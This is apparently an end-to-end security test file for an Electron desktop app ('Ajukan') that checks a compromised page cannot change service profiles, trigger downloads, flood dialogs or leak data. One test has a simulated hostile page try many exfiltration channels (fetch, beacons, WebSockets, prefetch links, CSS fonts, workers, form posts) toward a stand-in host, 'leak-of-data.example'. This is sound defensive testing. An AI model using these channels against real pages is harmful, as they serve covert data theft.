import { execFile } from 'node:child_process'
import { readFile } from 'node:fs/promises'
import { join, resolve } from 'node:path'
import { findRuntime, runtimeEnv } from '../../../scripts/runtime.ts'
import { newProfile } from '#core/wire/check-profile.ts'
import { callHost } from '../../support/drivers/host-calls.ts'
import { action, expect, steps, test } from '../../support/e2e.ts'
import { answerQuestions, freshHome, launch, questionsOf, removeHome } from '../../support/running-app.ts'

const { step, run } = steps()

step('a new service address and production are used only after a question of the main process', async ({ ajukan: { app, page } }) => {
  const setting = (name: string) => page.locator(`[data-setting="${name}"]`)
  const current = () => callHost(page, 'profiles.list', null).then((list) => (list.ok ? list.value.current : ''))
  const before = await current()
  const stored = () =>
    callHost(page, 'profiles.list', null).then((list) => (list.ok ? list.value.profiles.map(({ kind, address }) => [kind, address]) : []))
  await action(page, 'profile.menu').click()
  await page.getByRole('menu').locator('[data-action="profile.add"]').click()
  await setting('kind').selectOption('training')
  await setting('address').fill('https://gerbang.contoh.id/base')
  await setting('edinumber').fill('PPJK-1')
  await setting('useNow').uncheck()
  await answerQuestions(app, 'no')
  await action(page, 'profile.create').click()
  await expect(page.getByRole('dialog').getByRole('alert')).toContainText('Dibatalkan.')
  expect(await questionsOf(app)).toEqual([expect.stringMatching(/^Pakai alamat layanan ini\?\nhttps:\/\/gerbang\.contoh\.id\/base\n/)])
  expect(await stored()).toEqual([['practice', '']])

  await answerQuestions(app, 'yes')
  await setting('kind').selectOption('production')
  await action(page, 'profile.create').click()
  await expect.poll(stored).toEqual([
    ['practice', ''],
    ['production', 'https://gerbang.contoh.id/base']
  ])
  await answerQuestions(app, 'no')
  await action(page, 'profile.menu').click()
  await page.getByRole('menuitemradio').nth(1).click()
  await expect.poll(() => questionsOf(app)).toEqual([expect.stringMatching(/^Pakai profil produksi ini\?\n/)])
  // Answered after the refused choice.
  expect(await current()).toBe(before)
  await expect(page.locator('[data-profile-kind="practice"]')).toBeVisible()

  // A page that is compromised calls the host directly.
  const evil = { ...newProfile('training', 'evil', 'Latihan'), address: 'https://evil.example' }
  expect(await callHost(page, 'profiles.save', evil)).toEqual({ ok: false, failure: { code: 'cancelled' } })
  expect(await stored()).toHaveLength(2)
})

step('a download is refused in every session, and one of the page does not even begin', async ({ ajukan: { app, page } }) => {
  await app.evaluate(({ session }) => {
    const record = globalThis as { downloads?: boolean[] }
    record.downloads = []
    session.defaultSession.on('will-download', (event) => record.downloads?.push(event.defaultPrevented))
  })
  await page.evaluate(() => {
    const link = document.createElement('a')
    link.href = '/samples/sparepart-3.json'
    link.download = 'x.json'
    link.click()
  })
  // That of the host comes later, and alone.
  await app.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows()[0]?.webContents.downloadURL('app://bundle/samples/sparepart-3.json')
  )
  await expect.poll(() => app.evaluate(() => (globalThis as { downloads?: boolean[] }).downloads)).toEqual([true])
  const unguarded = await app.evaluate(({ session }) =>
    ['paper', 'service-reads', 'service-submits-0', 'a-new-one'].filter(
      (name) => session.fromPartition(name, { cache: false }).listenerCount('will-download') === 0
    )
  )
  expect(unguarded).toEqual([])
})

step('of a flood of questions one is shown at a time, and none after eight that were cancelled', async ({ ajukan: { app, page } }) => {
  await app.evaluate(({ dialog }) => {
    const record = Object.assign(globalThis as unknown as { open: number; mostOpen: number; shown: number }, {
      open: 0,
      mostOpen: 0,
      shown: 0
    })
    dialog.showMessageBox = async () => {
      record.shown += 1
      record.mostOpen = Math.max(record.mostOpen, (record.open += 1))
      await new Promise((done) => setTimeout(done, 50))
      record.open -= 1
      return { response: 0, checkboxChecked: false }
    }
  })
  // The dialog that a person asks for with a key or a click is always shown.
  await page.waitForTimeout(5_100)
  const opened = await Promise.all(Array.from({ length: 40 }, () => callHost(page, 'app.openAddress', { address: 'https://example.com/' })))
  expect(opened.filter((answer) => answer.ok && answer.value.opened)).toEqual([])
  const seen = await app.evaluate(() => {
    const { mostOpen, shown } = globalThis as unknown as { mostOpen: number; shown: number }
    return [mostOpen, shown]
  })
  // Cancelled questions of the steps before count too.
  expect([seen[0], (seen[1] ?? 0) <= 8]).toEqual([1, true])
})

test('the main process asks before an address is used and refuses downloads', ({ ajukan }) => run({ ajukan }))

test('a hostile page reaches no name server and no private file system', async () => {
  const home = await freshHome()
  const netLog = join(home, 'net.json')
  const running = await launch({ home, args: [`--log-net-log=${netLog}`] })
  const { page } = running
  const storage = await page.evaluate(async () => {
    const at = (name: string, scheme = 'https'): string => `${scheme}://${name}.leak-of-data.example/`
    const element = (tag: string, attributes: Readonly<Record<string, string>>, document = window.document): HTMLElement => {
      const made = document.createElement(tag)
      for (const [name, value] of Object.entries(attributes)) made.setAttribute(name, value)
      ;(document.body ?? document.documentElement).append(made)
      return made
    }
    // Trusted types and the content policy make some of these throw.
    const tried = async (work: () => unknown): Promise<unknown> => {
      try {
        return await work()
      } catch {
        return undefined
      }
    }
    const rels = ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'stylesheet', 'manifest']
    for (const rel of rels) element('link', { rel, href: at(rel), as: 'script' })
    for (const tag of ['img', 'video', 'audio', 'iframe', 'script', 'embed']) await tried(() => element(tag, { src: at(tag) }))
    await tried(() => element('object', { data: at('object') }))
    await tried(() => element('iframe', { src: 'mailto:a@mail.leak-of-data.example' }))
    await tried(() => (element('form', { action: at('form'), method: 'post' }) as HTMLFormElement).submit())
    await tried(() => element('a', { href: '#', ping: at('ping') }).click())
    element('meta', { 'http-equiv': 'refresh', content: `0;url=${at('meta')}` })
    document.body.style.backgroundImage = `url(${at('css')})`
    const sheet = new CSSStyleSheet()
    sheet.replaceSync(`@font-face { font-family: leak; src: url(${at('sheet')}) } body { font-family: leak }`)
    document.adoptedStyleSheets.push(sheet)
    const { host } = window.location
    for (const work of [
      () => fetch(at('fetch')),
      () => fetch(at('keepalive'), { keepalive: true, mode: 'no-cors' }),
      () => navigator.sendBeacon(at('beacon'), 'x'),
      () => new WebSocket(at('socket', 'wss')),
      () => new EventSource(at('events')),
      () => new WebTransport(at('transport')).ready,
      () => new FontFace('leak', `url(${at('font')})`).load(),
      () => new Worker(at('worker')),
      () => new SharedWorker(at('shared')),
      () => import(at('import')),
      () => window.open(at('open')),
      () => navigator.credentials.get(JSON.parse(`{"identity":{"providers":[{"configURL":"${at('identity')}","clientId":"${host}"}]}}`))
    ])
      await Promise.race([tried(work), new Promise((done) => setTimeout(done, 300))])
    // A frame of its own has the policy of the page, and names of its own.
    const frame = element('iframe', {}) as HTMLIFrameElement
    if (frame.contentDocument !== null) element('link', { rel: 'dns-prefetch', href: at('frame') }, frame.contentDocument)
    await new Promise((done) => setTimeout(done, 3_000))
    const worlds = [window, frame.contentWindow] as unknown as readonly Record<string, unknown>[]
    return worlds.map((world) => {
      const navigator = world['navigator'] as Record<string, unknown>
      const places = [
        (navigator['storage'] as Record<string, unknown>)['getDirectory'],
        navigator['storageBuckets'],
        world['webkitRequestFileSystem']
      ]
      return places.map((place) => typeof place)
    })
  })
  await running.close()
  const asked = (await readFile(netLog, 'utf8')).match(/[\w-]+\.leak-of-data\.example/g) ?? []
  await removeHome(home)
  const none = ['undefined', 'undefined', 'undefined']
  expect([[...new Set(asked)], storage]).toEqual([[], [none, none]])
})

test('without a flag for tests or development, a switch that weakens the application keeps it from starting', async () => {
  const runtime = await findRuntime()
  const home = await freshHome()
  const env = { ...process.env, ...runtimeEnv(runtime), AJUKAN_TEST: '', AJUKAN_HOME: home, SSLKEYLOGFILE: `${home}/keys` }
  const asRoot = process.getuid?.() === 0 ? ['--no-sandbox'] : []
  const args = [
    ...asRoot,
    '--disable-gpu',
    '--ignore-certificate-errors',
    '--proxy-server=127.0.0.1:9',
    resolve(import.meta.dirname, '../../..')
  ]
  const ended = await new Promise((done) =>
    execFile(runtime.path, args, { env, timeout: 60_000 }, (error, _out, stderr) =>
      done([error?.code, stderr.split('\n').filter((line) => line.startsWith('Ajukan'))])
    )
  )
  await removeHome(home)
  expect(ended).toEqual([1, ['Ajukan does not start with: --ignore-certificate-errors --proxy-server SSLKEYLOGFILE']])
})
